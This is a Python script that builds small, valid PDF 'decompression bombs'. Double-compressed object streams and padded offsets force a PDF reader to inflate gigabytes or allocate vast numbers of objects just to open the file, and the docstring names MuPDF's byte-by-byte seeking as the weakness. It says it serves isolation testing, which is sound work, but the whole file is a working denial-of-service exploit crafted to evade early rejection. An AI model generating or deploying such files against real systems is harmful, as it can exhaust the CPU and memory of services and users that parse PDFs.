#!/usr/bin/env python3
"""mkbomb.py - small "poison" PDFs whose opening explodes (stdlib only).

  mkbomb.py [--kind skip|chain|array] [--mib N] [--seed S] OUT.pdf

Every bomb is a syntactically valid PDF of a few KiB (xref stream, trailer
/Root and /ID, right offsets, right zlib checksums, qpdf --check is happy):
nothing needs repairing, so a reader cannot refuse it early.  The cost hides
in an object stream (/Type/ObjStm) that holds the catalog, the page tree and
the page, i.e. exactly what opening a PDF and counting its pages must read:

  skip   (CPU) the stream inflates to N MiB of spaces *before* the objects:
         their offsets in the stream header point past the spaces.  Object
         streams cannot be seeked, so the reader inflates and skips N MiB to
         reach the catalog.  MuPDF 1.21 seeks a filter one byte at a time:
         ~4 s of CPU per GiB.  Offsets are ints: N must stay under 2048.
  chain  (CPU) the same, but catalog, page tree and page each sit after N MiB
         in their own object stream: the cost is paid three times.
  array  (memory) the catalog carries /Bom [0 0 0 ...], N MiB of it: every
         "0 " becomes a PDF object, some 20 times its text in memory.

The stream is double-compressed (/Filter [/FlateDecode /FlateDecode]): the
inner deflate stream repeats one compressed block, so the outer deflate
shrinks it again and the file stays a few KiB whatever N is.
"""
import argparse
import hashlib
import sys
import zlib

CHUNK = 1 << 20  # the repeated unit: one MiB of filler
MIB = 1 << 20


def adler32_combine(a1, a2, len2):
    """zlib's adler32_combine: the Adler-32 of A+B from those of A and B."""
    base = 65521
    rem = len2 % base
    s1 = a1 & 0xffff
    s2 = (rem * s1) % base
    s1 += (a2 & 0xffff) + base - 1
    s2 += ((a1 >> 16) & 0xffff) + ((a2 >> 16) & 0xffff) + base - rem
    return (s1 % base) | ((s2 % base) << 16)


class Filler:
    """count MiB of pattern (repeated to fill each MiB)."""

    def __init__(self, pattern, mib):
        self.chunk = (pattern * (CHUNK // len(pattern) + 1))[:CHUNK]
        self.count = mib

    def __len__(self):
        return CHUNK * self.count


def deflate_parts(parts):
    """A zlib stream of the concatenated parts (bytes or Filler), built
    without holding the filler: each part is deflated on its own, ending in a
    full flush (the compressor starts afresh after it), so a Filler's MiB is
    compressed once and its bytes repeated."""
    out, adler = [b"\x78\xda"], 1
    for i, part in enumerate(parts):
        flush = zlib.Z_FINISH if i == len(parts) - 1 else zlib.Z_FULL_FLUSH
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        if isinstance(part, Filler):
            if part.count == 0:
                continue
            block = c.compress(part.chunk) + c.flush(zlib.Z_FULL_FLUSH)
            out.append(block * part.count)
            one = zlib.adler32(part.chunk)
            for _ in range(part.count):
                adler = adler32_combine(adler, one, CHUNK)
        else:
            out.append(c.compress(part) + c.flush(flush))
            adler = zlib.adler32(part, adler)
    if isinstance(parts[-1], Filler):  # end the deflate stream
        out.append(zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH))
    out.append(adler.to_bytes(4, "big"))
    return b"".join(out)


def objstm(members, pad_mib=0):
    """(dict, data) of an object stream holding members [(num, [parts])],
    the first one after pad_mib MiB of spaces."""
    pad = Filler(b" ", pad_mib)
    head, body, ofs = [], [], len(pad)
    for num, parts in members:
        head.append("%d %d" % (num, ofs))
        body += parts + [b"\n"]
        ofs += sum(len(p) for p in parts) + 1
    if ofs >= 1 << 31:
        sys.exit("mkbomb: offsets must stay below 2 GiB (MuPDF reads them as int)")
    head = (" ".join(head) + "\n").encode()
    inner = deflate_parts([head, pad] + body)
    outer = zlib.compress(inner, 9)
    d = (b"<</Type/ObjStm/N %d/First %d/Length %d/Filter[/FlateDecode/FlateDecode]>>"
         % (len(members), len(head), len(outer)))
    return d, outer


def build(kind, mib, seed):
    catalog = [b"<</Type/Catalog/Pages 2 0 R>>"]
    pages = [b"<</Type/Pages/Kids[3 0 R]/Count 1>>"]
    page = [b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595.276 841.89]"
            b"/Resources<<>>/Contents 4 0 R>>"]
    text = b"BT 72 760 Td ET"
    objs = {4: (b"<</Length %d>>" % len(text), text)}  # num -> (dict, stream data)
    if kind == "skip":
        objs[5] = objstm([(1, catalog), (2, pages), (3, page)], mib)
        where = {1: (5, 0), 2: (5, 1), 3: (5, 2)}
    elif kind == "chain":
        objs[5] = objstm([(1, catalog)], mib)
        objs[6] = objstm([(2, pages)], mib)
        objs[7] = objstm([(3, page)], mib)
        where = {1: (5, 0), 2: (6, 0), 3: (7, 0)}
    else:
        catalog = [b"<</Type/Catalog/Pages 2 0 R/Bom[", Filler(b"0 ", mib), b"]>>"]
        objs[5] = objstm([(1, catalog), (2, pages), (3, page)])
        where = {1: (5, 0), 2: (5, 1), 3: (5, 2)}
    xrefnum = max(objs) + 1
    size = xrefnum + 1

    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    entries = {0: (0, 0, 65535)}
    for num, (stm, idx) in where.items():
        entries[num] = (2, stm, idx)
    for num in sorted(objs):
        entries[num] = (1, len(out), 0)
        d, data = objs[num]
        out += b"%d 0 obj\n%s\nstream\n%s\nendstream\nendobj\n" % (num, d, data)
    xref = len(out)
    entries[xrefnum] = (1, xref, 0)
    rows = b"".join(bytes([t]) + f1.to_bytes(4, "big") + f2.to_bytes(2, "big")
                    for t, f1, f2 in (entries[i] for i in range(size)))
    ident = hashlib.md5(("%s/%s/%d" % (seed, kind, mib)).encode()).hexdigest().upper().encode()
    out += (b"%d 0 obj\n<</Type/XRef/Size %d/W[1 4 2]/Index[0 %d]/Root 1 0 R"
            b"/ID[<%s><%s>]/Length %d>>\nstream\n%s\nendstream\nendobj\n"
            % (xrefnum, size, size, ident, ident, len(rows), rows))
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def main():
    ap = argparse.ArgumentParser(description="poison PDFs for isolation tests")
    ap.add_argument("output")
    ap.add_argument("--kind", choices=("skip", "chain", "array"), default="skip")
    ap.add_argument("--mib", type=int, default=1024,
                    help="MiB of filler (spaces before the objects, or the array)")
    ap.add_argument("--seed", default="bom", help="makes /ID, and so the bytes, distinct")
    opts = ap.parse_args()
    with open(opts.output, "wb") as f:
        f.write(build(opts.kind, opts.mib, opts.seed))
    return 0


if __name__ == "__main__":
    sys.exit(main())
